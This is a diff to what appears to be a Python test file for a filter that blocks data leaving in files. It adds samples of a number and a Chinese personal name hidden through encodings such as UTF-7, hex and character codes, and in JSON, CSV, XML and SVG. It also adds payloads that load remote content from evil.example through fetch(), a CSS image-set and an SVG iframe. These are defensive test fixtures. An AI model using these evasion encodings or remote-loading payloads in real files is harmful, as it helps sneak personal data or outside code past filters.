@@ -255,6 +255,17 @@ SPELLED = {
     "seven bits": ("txt", "+ADEAMwA4ADAAMAAwADAAMAAxADIAMw-"),
     "quoted printable": ("txt", each("=3{}")),
     "hexadecimal": ("txt", NUMBER.encode().hex()),
+    "hexadecimal apart": ("txt", " ".join(f"3{digit}" for digit in NUMBER)),
+    "codes apart": ("txt", " ".join(str(ord(digit)) for digit in NUMBER)),
+    "heads of data apart": ("json", '{"columns": ["姓名", "村"], "data": [["王三", "东村"]]}'),
+    "lines of data": ("json", '{"姓名": "王三"}\n{"姓名": "李四"}'),
+    "a second table": ("csv", "村,场次\n东村,1\n\n姓名,村\n王三,东村\n"),
+    "a field of a script": ("js", 'a = {姓名:"王三"}'),
+    "a name in a spelled element": ("xml", "<r><xm>王三</xm></r>"),
+    "who made a drawing": (
+        "svg",
+        "<svg><dc:creator><cc:Agent><dc:title>王三</dc:title></cc:Agent></dc:creator></svg>",
+    ),
     "markup in a text": ("txt", "<p>138<b>0000</b><!-- a -->0123</p>"),
 }
 """What a file that leaves is called, and a number in it that is put together where it is read."""
@@ -382,6 +393,9 @@ CANNOT_LEAVE = {
     "a sheet from elsewhere": b'<?xml-stylesheet href="http://evil.example/a.xsl"?><a/>',
     "a part from elsewhere": b'<a><xi:include href="http://evil.example/a.xml"/></a>',
     "a program from elsewhere": b'import "https://evil.example/a.js"',
+    "data from elsewhere": b'fetch("https://evil.example/a")',
+    "a picture of a set from elsewhere": b'a { background: image-set("//evil.example/a.png" 1x) }',
+    "a page in a drawing": b"<svg><foreignObject><iframe src='a'/></foreignObject></svg>",
     "text behind a packed text": png_with(b"zTXt", b"a\0\0" + zlib.compress(b"a") + b"b"),
 }
 
